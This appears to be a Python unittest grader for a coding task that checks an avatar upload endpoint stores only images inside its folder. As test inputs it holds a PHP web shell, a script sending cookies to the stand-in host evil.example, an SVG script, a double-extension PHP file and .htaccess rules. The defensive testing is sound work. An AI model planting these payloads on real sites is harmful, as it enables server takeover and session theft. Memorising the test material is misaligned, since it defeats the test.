import io
import os
import tempfile
import unittest

import solution

IMAGE_EXTENSIONS = {".png", ".jpg", ".jpeg", ".gif"}


class AvatarSecurity(unittest.TestCase):
    def setUp(self):
        self.base = tempfile.mkdtemp()
        self.dir = os.path.join(self.base, "avatars")
        os.makedirs(self.dir)
        self.client = solution.create_app(self.dir).test_client()

    def _upload(self, name, data):
        self.client.post("/avatar", data={"avatar": (io.BytesIO(data), name)}, content_type="multipart/form-data")

    def _stored(self):
        out = []
        for dirpath, _, files in os.walk(self.base):
            out += [os.path.join(dirpath, f) for f in files]
        return out

    def _assert_only_images(self):
        for path in self._stored():
            self.assertEqual(os.path.commonpath([path, self.dir]), self.dir, "file written outside: %s" % path)
            ext = os.path.splitext(path)[1].lower()
            self.assertIn(ext, IMAGE_EXTENSIONS, "a non-image file was published: %s" % os.path.basename(path))

    def test_php_web_shell(self):
        self._upload("shell.php", b"<?php system($_GET['cmd']); ?>")
        self._assert_only_images()

    def test_html_page_with_script(self):
        self._upload("profile.html", b"<html><script>document.location='//evil.example/?'+document.cookie</script>")
        self._assert_only_images()

    def test_svg_with_script(self):
        self._upload("avatar.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')
        self._assert_only_images()

    def test_double_extension(self):
        self._upload("cat.png.php", b"<?php phpinfo(); ?>")
        self._assert_only_images()

    def test_no_extension(self):
        self._upload("htaccess", b"AddType application/x-httpd-php .png")
        self._upload(".htaccess", b"AddType application/x-httpd-php .png")
        self._assert_only_images()


if __name__ == "__main__":
    unittest.main()
